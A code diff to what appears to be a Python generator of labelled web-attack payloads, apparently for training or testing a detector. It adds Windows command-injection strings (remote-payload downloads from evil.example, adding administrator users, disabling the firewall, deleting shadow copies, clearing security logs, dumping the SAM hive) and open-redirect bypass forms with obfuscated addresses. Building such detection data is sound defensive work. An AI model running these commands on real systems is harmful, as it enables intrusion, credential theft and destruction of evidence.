@@ -20,9 +20,13 @@ SHELL = """id whoami uname hostname pwd ls cat tac head tail more less nl od xxd
 bash sh zsh dash ksh busybox python python3 perl ruby php node lua awk gawk sed find xargs tee cp mv rm ln chmod chown mkdir touch dd tar gzip base64 rev crontab at nohup kill killall ifconfig ip netstat ss arp route mount df
 sudo su passwd useradd gcc cc make apt-get yum apk git vi ed file stat time timeout watch nice sleep exec eval source alias trap command type which locate systemctl service docker kubectl aws""".split()
 SHELL_ARGS = ["/etc/passwd", "/etc/shadow", "/etc/hosts", "-la", "-al /", "-a", "-c 4 127.0.0.1", "http://evil.example/a.sh", "-O /tmp/x http://203.0.113.7/x", "evil.example", "-e /bin/sh 203.0.113.7 4444", "-i", "-rf /tmp/x", "+x /tmp/a", "aux", "$HOME", "~/.ssh/id_rsa", "/proc/self/environ", "-n 1", "10", "-d @/etc/passwd http://evil.example", "test", ""]  # tidy: not of a machine
-WINDOWS = """dir type net\x20user net\x20localgroup\x20administrators ipconfig\x20/all systeminfo tasklist whoami\x20/priv ver set echo\x20%PATH% ping\x20-n\x204\x20127.0.0.1 nslookup\x20evil.example certutil\x20-urlcache\x20-f\x20http://evil.example/a.exe
-bitsadmin\x20/transfer\x20j\x20http://evil.example/a powershell\x20-nop\x20-w\x20hidden\x20-c wmic\x20process\x20list reg\x20query\x20HKLM\\Software mshta\x20http://evil.example/a.hta rundll32\x20javascript: cscript regsvr32\x20/s\x20/u schtasks\x20/query copy del\x20/f move attrib start calc.exe""".replace("\n", " ").split(" ")
-POWERSHELL = """Invoke-Expression Invoke-WebRequest Invoke-Command Get-ChildItem Get-Content Get-Process Set-ExecutionPolicy New-Object\x20Net.WebClient Start-Process DownloadString Out-File ConvertTo-Json Get-WmiObject Add-Type Test-Path Remove-Item""".replace("\n", " ").split(" ")
+# A `~` stands for a blank.
+WINDOWS = [one.replace("~", " ") for one in """dir type net~user net~localgroup~administrators ipconfig~/all systeminfo tasklist whoami~/priv ver set echo~%PATH% ping~-n~4~127.0.0.1 nslookup~evil.example certutil~-urlcache~-f~http://evil.example/a.exe
+bitsadmin~/transfer~j~http://evil.example/a powershell~-nop~-w~hidden~-c wmic~process~list reg~query~HKLM\\Software mshta~http://evil.example/a.hta rundll32~javascript: cscript regsvr32~/s~/u schtasks~/query copy del~/f move attrib start calc.exe
+net~view net~share net~use net~start net~session net~accounts~/domain net~group~/domain net~user~{w}~{w}~/add net~localgroup~administrators~{w}~/add netsh~wlan~show~profiles netsh~advfirewall~set~allprofiles~state~off netstat~-ano arp~-a route~print
+nbtstat~-n getmac hostname sc~query sc~stop~{w} qwinsta query~user gpresult~/r driverquery wevtutil~cl~Security vssadmin~delete~shadows~/all icacls~C:\\ takeown~/f~C:\\{w} tree~C:\\ findstr~/si~password~*.txt cmdkey~/list where~cmd fsutil~fsinfo~drives
+type~C:\\Windows\\win.ini type~C:\\boot.ini type~%WINDIR%\\System32\\drivers\\etc\\hosts type~%USERPROFILE%\\{w}.txt type~%SYSTEMROOT%\\{w}\\{w}.log dir~C:\\ dir~/s~C:\\{w} dir~%TEMP% dir~C:\\Users\\{w} more~C:\\{w}\\{w}.ini reg~save~HKLM\\SAM~C:\\{w} taskkill~/f~/im~{w}.exe shutdown~/r~/t~0""".split()]
+POWERSHELL = [one.replace("~", " ") for one in """Invoke-Expression Invoke-WebRequest Invoke-Command Get-ChildItem Get-Content Get-Process Set-ExecutionPolicy New-Object~Net.WebClient Start-Process DownloadString Out-File ConvertTo-Json Get-WmiObject Add-Type Test-Path Remove-Item""".split()]
 PHP = """system exec passthru shell_exec popen proc_open pcntl_exec eval assert create_function call_user_func call_user_func_array array_map usort preg_replace include require include_once require_once file_get_contents file_put_contents fopen fwrite
 readfile highlight_file show_source move_uploaded_file copy unlink rename chmod phpinfo phpversion getenv ini_set set_time_limit base64_decode gzinflate str_rot13 gzuncompress unserialize extract parse_str mail curl_exec fsockopen getcwd scandir glob
 opendir posix_getpwuid print_r var_dump md5 die get_defined_vars get_defined_functions func_get_args register_shutdown_function ob_start dl symlink simplexml_load_string hex2bin chr bin2hex error_log putenv array_filter ReflectionFunction""".split()
@@ -62,7 +66,7 @@ class Attacks:
 
     def __init__(self, rng):
         self.r = rng
-        self.makers = [(self.sqli, 5), (self.xss, 5), (self.shell, 3), (self.windows, 1), (self.php, 2), (self.java, 2), (self.script, 1), (self.template, 2), (self.traversal, 4), (self.rfi, 1.5), (self.ssrf, 1.5), (self.xxe, 1.5), (self.deserialisation, 1.5), (self.nosql, 1), (self.other, 1.5), (self.redirect, 1)]
+        self.makers = [(self.sqli, 5), (self.xss, 5), (self.shell, 3), (self.windows, 1), (self.php, 2), (self.java, 2), (self.script, 1), (self.template, 2), (self.traversal, 4), (self.rfi, 1.5), (self.ssrf, 1.5), (self.xxe, 1.5), (self.deserialisation, 1.5), (self.nosql, 1), (self.other, 1.5), (self.redirect, 1.5)]
 
     def one(self):
         """A class and a payload."""
@@ -199,11 +203,15 @@ class Attacks:
         form = r.choice(["{b};{c}", "{b}; {c}", "{b}|{c}", "{b} | {c}", "{b}||{c}", "{b}&{c}", "{b}&&{c}", "{b} && {c} #", "{b}`{c}`", "{b}$({c})", "{b}\n{c}", "{b}\r\n{c}\n", "{b}%0a{c}", "{b};{c};", "{b}'; {c} #", '{b}";{c};"', "{b}'|{c}", "{b}<({c})", "{b}|{c}|", "() {{ :;}}; {c}", "{c}", "{b}$(({c}))", "{b}; if [ 1 ]; then {c}; fi", "{b}; for i in 1 2; do {c}; done", "{b}; while true; do {c}; done", "{b}`{c}` #", "|{c}#", "{b};{c}%00", "!{c}", "{b} -o ProxyCommand='{c}'", "$(sleep 5){b}", "|| {c} ||"])
         return "rce", form.format(b=r.choice(["", "", "1", "x", "127.0.0.1", "a.txt", "evil.example", self.word(), '"', "'"]), c=c)
 
+    def windows_command(self):
+        return self.r.choice(WINDOWS).replace("{w}", self.word())
+
     def windows(self):
         r, w = self.r, self.word
-        c = r.choice(WINDOWS)
+        c = self.windows_command()
         return "rce", self.case(r.choice([
-            lambda: f"& {c}", lambda: f"| {c}", lambda: f"&& {c} &&", lambda: f"cmd.exe /c {c}", lambda: f"cmd /k \"{c}\"", lambda: f"%COMSPEC% /c {c}", lambda: f"for /f \"tokens=*\" %i in ('{c}') do {r.choice(('echo', 'call', 'start'))} %i", lambda: f"for /l %x in (1,1,{self.n(99)}) do {c}", lambda: f"for /r C:\\ %f in (*.{w(2, 3)}) do {c}", lambda: f"if exist C:\\{w()} {c}", lambda: f"if not errorlevel 1 {c}", lambda: f"if \"%{w()}%\"==\"{w()}\" ({c}) else ({r.choice(WINDOWS)})", lambda: f"if defined {w()} {c}", lambda: f"powershell {r.choice(POWERSHELL)} {w()}", lambda: f"powershell -enc {base64.b64encode(c.encode('utf-16le')).decode()}", lambda: f"powershell -ep bypass -c \"{r.choice(POWERSHELL)}('http://evil.example/{w()}.ps1')\"", lambda: f"{r.choice(POWERSHELL)} {w()}", lambda: f"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/{w()}')", lambda: f"c^m^d /c {c}", lambda: f"set /a {w()}={self.n()} & {c}", lambda: f"\\\\203.0.113.7\\share\\{w()}.exe", lambda: f"{c} > C:\\inetpub\\wwwroot\\{w()}.txt",
+            lambda: c if " " in c else f"{c} &", lambda: f"; {c}", lambda: f"|{c}", lambda: f"&{c}&", lambda: f"|| {c}", lambda: f"{w()}&{c}", lambda: f"{w()} | {c}", lambda: f"& {c} & ", lambda: f"'&{c}&'", lambda: f"{self.n()}|{c}||",
+            lambda: f"& {c}", lambda: f"| {c}", lambda: f"&& {c} &&", lambda: f"cmd.exe /c {c}", lambda: f"cmd /k \"{c}\"", lambda: f"%COMSPEC% /c {c}", lambda: f"for /f \"tokens=*\" %i in ('{c}') do {r.choice(('echo', 'call', 'start'))} %i", lambda: f"for /l %x in (1,1,{self.n(99)}) do {c}", lambda: f"for /r C:\\ %f in (*.{w(2, 3)}) do {c}", lambda: f"if exist C:\\{w()} {c}", lambda: f"if not errorlevel 1 {c}", lambda: f"if \"%{w()}%\"==\"{w()}\" ({c}) else ({self.windows_command()})", lambda: f"if defined {w()} {c}", lambda: f"powershell {r.choice(POWERSHELL)} {w()}", lambda: f"powershell -enc {base64.b64encode(c.encode('utf-16le')).decode()}", lambda: f"powershell -ep bypass -c \"{r.choice(POWERSHELL)}('http://evil.example/{w()}.ps1')\"", lambda: f"{r.choice(POWERSHELL)} {w()}", lambda: f"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/{w()}')", lambda: f"c^m^d /c {c}", lambda: f"set /a {w()}={self.n()} & {c}", lambda: f"\\\\203.0.113.7\\share\\{w()}.exe", lambda: f"{c} > C:\\inetpub\\wwwroot\\{w()}.txt",
         ])())
 
     def php(self):
@@ -301,13 +309,31 @@ class Attacks:
         r, w = self.r, self.word
         end = r.choice(("\r\n", "%0d%0a", "\n", "%0a", "%E5%98%8A%E5%98%8D", "\r", "%250d%250a"))
         return r.choice([
-            ("other_injection", f"{w()}{end}Set-Cookie: {w()}={w()}"), ("other_injection", f"{w()}{end}Location: http://evil.example/"), ("other_injection", f"{end}{end}<script>{r.choice(SCRIPTS)}</script>"), ("other_injection", f"{w()}{end}Content-Length: 0{end}{end}HTTP/1.1 200 OK"), ("other_injection", f"{w()}@example.org{end}{r.choice(('Bcc', 'Cc', 'To', 'Subject'))}: {w()}@evil.example"), ("other_injection", f"<!--#{r.choice(('exec cmd', 'include virtual', 'include file', 'echo var', 'printenv', 'config errmsg'))}=\"{self.command()}\" -->"), ("other_injection", f"<esi:include src=\"http://evil.example/\"/>"), ("rce", f"{r.choice('=+-@')}{r.choice(('cmd', 'DDE', 'rundll32'))}|'/C {r.choice(WINDOWS)}'!A0"), ("rce", f"=HYPERLINK(\"http://evil.example/?\"&A1)"), ("other_injection", f"<% {w()} %>"), ("other_injection", f"%n%n%s%s%x%x{'%p' * r.randint(2, 9)}"), ("other_injection", "A" * r.randint(300, 900)), ("other_injection", f"{w()}{end}V100 FETCH {w()}"), ("scanner", f"/{r.choice(FILES)}"), ("scanner", f"/cgi-bin/{w()}.{r.choice(('cgi', 'pl', 'sh'))}?{self.command()}"), ("other_injection", f"query {{ __schema {{ types {{ name fields {{ name }} }} }} }}"), ("rce", f"{w()}::$DATA"), ("other_injection", f"\x1f\x8b{w()}"), ("other_injection", f"@import url(http://evil.example/{w()})"), ("xss", f"<{w()} {r.choice(EVENTS)}={w()}>"), ("rce", f"java -jar {w()} {self.command()}"),
+            ("other_injection", f"{w()}{end}Set-Cookie: {w()}={w()}"), ("other_injection", f"{w()}{end}Location: http://evil.example/"), ("other_injection", f"{end}{end}<script>{r.choice(SCRIPTS)}</script>"), ("other_injection", f"{w()}{end}Content-Length: 0{end}{end}HTTP/1.1 200 OK"), ("other_injection", f"{w()}@example.org{end}{r.choice(('Bcc', 'Cc', 'To', 'Subject'))}: {w()}@evil.example"), ("other_injection", f"<!--#{r.choice(('exec cmd', 'include virtual', 'include file', 'echo var', 'printenv', 'config errmsg'))}=\"{self.command()}\" -->"), ("other_injection", f"<esi:include src=\"http://evil.example/\"/>"), ("rce", f"{r.choice('=+-@')}{r.choice(('cmd', 'DDE', 'rundll32'))}|'/C {self.windows_command()}'!A0"), ("rce", f"=HYPERLINK(\"http://evil.example/?\"&A1)"), ("other_injection", f"<% {w()} %>"), ("other_injection", f"%n%n%s%s%x%x{'%p' * r.randint(2, 9)}"), ("other_injection", "A" * r.randint(300, 900)), ("other_injection", f"{w()}{end}V100 FETCH {w()}"), ("scanner", f"/{r.choice(FILES)}"), ("scanner", f"/cgi-bin/{w()}.{r.choice(('cgi', 'pl', 'sh'))}?{self.command()}"), ("other_injection", f"query {{ __schema {{ types {{ name fields {{ name }} }} }} }}"), ("rce", f"{w()}::$DATA"), ("other_injection", f"\x1f\x8b{w()}"), ("other_injection", f"@import url(http://evil.example/{w()})"), ("xss", f"<{w()} {r.choice(EVENTS)}={w()}>"), ("rce", f"java -jar {w()} {self.command()}"),
         ])
 
-    def redirect(self):
+    def address(self):
+        """An IPv4 address in one of the forms that the URL standard's parser takes: one to four numbers, decimal, octal or hexadecimal."""
         r = self.r
-        host = r.choice(("evil.example", "203.0.113.7", "evil.example.attacker.test", "%65vil.example", "3405803783"))
-        return "redirect", r.choice(["//{h}", "///{h}", "////{h}/%2f..", "/\\{h}", "\\/\\/{h}", "https:{h}", "https:/{h}", "//site.example@{h}", "https://site.example.{h}", "//{h}%00.site.example", "//{h}%E3%80%82com", "/%09/{h}", "/%5c{h}", "//{h}/..;/css", "javascript:alert(1)//https://{h}", "//{h}\\@site.example", "/.{h}", "//%0d%0a{h}", "http://{h}#.site.example", "https://{h}?site.example", "〱{h}", "/〵{h}", "x:{h}", "/redirect?url=//{h}", "data:text/html,<script>location='//{h}'</script>"]).format(h=host)
+        octets = [r.randint(1, 255) for _ in range(4)]
+        number = lambda value: r.choice((str(value), str(value), f"{value:#x}", f"0{value:o}", f"00{value:o}", f"0x{value:X}"))
+        kept = r.randint(0, 3)
+        if r.random() < 0.15:
+            return ".".join(str(octet + 256) for octet in octets)
+        return ".".join([*(number(octet) for octet in octets[:kept]), number(int.from_bytes(octets[kept:], "big"))])
+
+    def redirect(self):
+        r, w = self.r, self.word
+        trusted = r.choice(("site.example", "www.site.example", f"{w()}.com", f"www.{w()}.org"))
+        host = r.choice(("evil.example", "attacker.test", f"{w()}.com", f"www.{w()}.net", f"{trusted}.evil.example", "%65vil.example", "evil\u3002example", "evil\uff0eexample", "\u24d4\u24e5il.example", self.address(), self.address()))
+        who = r.choice(("", "", f"{trusted}@", f"{w(4, 8)}@", f"{w()}:{w()}@", f"{trusted}:80@", f"{trusted}%40", f"{trusted}&@", f"{trusted}#@", f"{trusted};@", f"{w(2, 3)}>.{self.n()}\\{self.n()}@"))
+        scheme = r.choice(("//", "//", "///", "////", "/////", "/\\", "\\/", "\\\\", "\\/\\/", "/\\/", "//\t/", "/\t/", "/%09/", "/%5c", "/%0d/", "/%2f/", "http:", "https:", "http:/", "https:\\", "https:\\/\\/", "https:///", "hTTps://", "/https:", "//https://", "/http://", ".", "/.", "@", "/\u3035", "\u3031", "\u309d", "\u30fc", "\uff70", "x:", "/redirect?url=//", "//%0d%0a", "/%68ttp://"))
+        # An address that is written as anybody would is no attack.
+        if scheme == "//" and not who and host.isascii() and "%" not in host:
+            scheme = "////"
+        tail = r.choice(("", "", "", "/", "//", "/..", "//..", "/%2e%2e", "/%2f..", "/%2e%2e%2f", "/..;/css", "/%2f%2e%2e", f"?{trusted}", f"#{trusted}", f"%00.{trusted}", f"\\@{trusted}", f"%23.{trusted}"))
+        own = f"{scheme}{who}{host}{tail}"
+        return "redirect", r.choice([own, own, own, own, own, f"{own}&next={own}&url={own}", f"/{w()}?{w()}={own}&{w()}={own}", f"javascript:{r.choice(SCRIPTS)}//{host}", f"data:text/html,<script>location='{own}'</script>", f"java%0d%0ascript%0d%0a:{r.choice(SCRIPTS)}"])
 
 
 def wrapped(rng, value):
